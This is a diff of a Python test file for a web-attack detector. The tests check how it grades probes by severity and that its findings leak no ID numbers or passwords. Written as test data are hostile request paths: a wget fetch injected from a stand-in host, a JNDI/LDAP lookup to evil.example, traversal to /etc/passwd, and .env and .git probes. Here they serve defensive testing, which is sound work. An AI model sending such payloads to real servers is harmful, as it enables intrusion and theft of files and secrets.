@@ -2,16 +2,20 @@
 
 from __future__ import annotations
 
+import secrets
 from typing import Any
 from urllib.parse import quote
 
+import msgspec
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from collectors.network.detect.settings import DetectSettings, WebSettings
 from collectors.network.detect.web import Web, decoded
-from collectors.network.model import Conn
+from collectors.network.model import Conn, Http
+from collectors.network.outward import finding
+from tests.collectors.content.citizens import leaks, make_niks
 from tests.collectors.network.detect.records import conn, one, outward, request
 
 
@@ -152,7 +156,7 @@ def test_an_answer_makes_it_worse() -> None:
     assert ours.severity == "high"
 
 
-def told(path: str, size: int, made: Web, which: Conn | None = None) -> list[str]:
+def levels(path: str, size: int, made: Web, which: Conn | None = None) -> list[str]:
     more: dict[str, Any] = {"conn": which} if which else {}
     found = made.see(request(path, status=200, response_bytes=size, **more))
     return [one.severity for one in found]
@@ -160,50 +164,50 @@ def told(path: str, size: int, made: Web, which: Conn | None = None) -> list[str
 
 def test_a_server_that_answers_everything_with_its_first_page_is_not_broken() -> None:
     made = detector()
-    assert told("/", 18_300, made) == []
+    assert levels("/", 18_300, made) == []
     for path in (
         "/.env",
         "/index.php?s=/\\think\\app/invokefunction",
         "/?x=;wget http://a.example/m",
     ):
-        assert set(told(path, 18_211, made)) <= {"low", "medium"}, path
-    assert told("/.env", 412, made) == ["high"], "another answer"
+        assert set(levels(path, 18_211, made)) <= {"low", "medium"}, path
+    assert levels("/.env", 412, made) == ["high"], "another answer"
 
 
 def test_a_first_page_of_several_forms() -> None:
     made = detector()
     for size in (18_000, 9000, 12_000, 18_010):
-        told("/", size, made)
+        levels("/", size, made)
     for n, size in enumerate((9010, 18_020, 12_005)):
         path = f"/?a=fetch&content=<?php die(@md5({n}))?>"
-        assert told(path, size, made, conn(f"203.0.113.{n}", port=80)) == ["medium"]
+        assert levels(path, size, made, conn(f"203.0.113.{n}", port=80)) == ["medium"]
 
 
 def test_a_parameter_that_is_ignored_is_no_way_in() -> None:
     made = detector()
-    assert told("/berita.php?id=4", 9000, made) == []
-    assert told("/berita.php?id=../../../etc/passwd", 9010, made) == ["low"]
-    assert told("/berita.php?id=../../../../etc/passwd", 1800, made) == ["high"]
+    assert levels("/berita.php?id=4", 9000, made) == []
+    assert levels("/berita.php?id=../../../etc/passwd", 9010, made) == ["low"]
+    assert levels("/berita.php?id=../../../../etc/passwd", 1800, made) == ["high"]
 
 
 def test_the_same_answer_to_other_attacks_says_nothing() -> None:
     made = detector()
-    told("/.env", 700, made)
-    assert told("/.git/config", 700, made) == ["low"]
+    levels("/.env", 700, made)
+    assert levels("/.git/config", 700, made) == ["low"]
 
 
 def test_whether_a_look_up_worked_is_not_in_the_answer() -> None:
-    assert told("/?x=${jndi:ldap://evil.example/a}", 900, detector()) == ["medium"]
+    assert levels("/?x=${jndi:ldap://evil.example/a}", 900, detector()) == ["medium"]
 
 
 def test_scripts_of_the_application_are_told_once() -> None:
     made = detector()
-    assert told("/uploads/view.php?id=1", 900, made) == ["high"]
+    assert levels("/uploads/view.php?id=1", 900, made) == ["high"]
     for n in range(2, 9):
         which = conn(f"203.0.113.{n}", port=80)
-        assert told(f"/uploads/view.php?id={n}", 900 + 100 * n, made, which) == []
-    assert told("/dokumen/lihat.php?id=1", 900, made) == ["low"]
-    assert told("/files/download.php", 50, made, outward(port=80)) == ["low"]
+        assert levels(f"/uploads/view.php?id={n}", 900 + 100 * n, made, which) == []
+    assert levels("/dokumen/lihat.php?id=1", 900, made) == ["low"]
+    assert levels("/files/download.php", 50, made, outward(port=80)) == ["low"]
 
 
 @pytest.mark.parametrize(
@@ -271,3 +275,29 @@ def test_state_is_bounded() -> None:
     assert len(made._agents) <= 20
     assert len(made._sizes) + len(made._probes) + len(made._scripts) <= 60
     assert made.evicted() > 0
+
+
+def told(record: Http) -> bytes:
+    """What leaves the child because of a request."""
+    return msgspec.json.encode([finding(one).record for one in detector().see(record)])
+
+
+@pytest.mark.parametrize("path", [path for paths in ATTACKS.values() for path in paths])
+@pytest.mark.parametrize("before", [0, 190, 245, 4070])
+def test_the_evidence_holds_no_ones_number_or_password(path: str, before: int) -> None:
+    secret = secrets.token_hex(8)
+    nik = make_niks(1, seed=before)[0]
+    mark = "&" if "?" in path else "?"
+    long = f"{path}{mark}x={'a' * before}{nik}&password={secret}&{nik}=1"
+    early = path.replace("?", f"?u={nik}&pass[]={secret}&", 1) if "?" in path else path
+    inside = f"/{'a' * before}/{nik}{path}"
+    for target in (long, early, inside):
+        said = told(request(target, referrer=target, forwarded_for=f"{nik}, {nik}"))
+        assert b"texts" in said or target is inside  # there it may lie behind what is kept
+        assert not leaks(nik, said), said
+        assert not leaks(secret, said), said
+
+
+def test_the_evidence_says_what_was_asked_for_and_what_is_wrong_with_it() -> None:
+    (found,) = detector().see(request("/unduh?berkas=../../../etc/passwd&u=budi"))
+    assert found.texts == ("kota.go.id/unduh?berkas&u", "../../../")
